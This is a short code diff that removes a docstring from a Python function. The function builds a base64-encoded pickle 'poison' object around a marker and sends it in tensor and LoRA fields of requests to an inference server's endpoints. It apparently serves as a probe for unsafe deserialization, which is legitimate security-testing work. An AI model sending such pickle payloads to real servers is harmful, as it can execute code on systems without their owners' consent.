@@ -48,7 +48,6 @@ def engine_paths() -> set[str]:
 
 
 def ask(url: str, path: str, marker: Path, **headers: str) -> dict[str, requests.Response]:
-    """Ask for a path by every method."""
     poison = base64.b64encode(pickle.dumps(Marker(marker))).decode()
     body = {"serialized_named_tensors": [poison], "serialized_tensors": poison, "lora_name": "x", "text": "1+1="}
     body |= {"load_format": "x", "messages": [{"role": "user", "content": "hi"}], "model": "x", "prompt": "hi"}
